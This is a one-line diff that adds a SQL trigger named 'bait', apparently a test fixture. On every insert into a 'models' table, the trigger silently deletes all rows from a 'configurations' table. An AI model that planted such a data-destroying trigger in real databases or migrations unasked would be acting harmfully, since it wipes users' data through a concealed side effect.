@@ -1,0 +1,1 @@
+create trigger bait after insert on models begin delete from configurations; end;
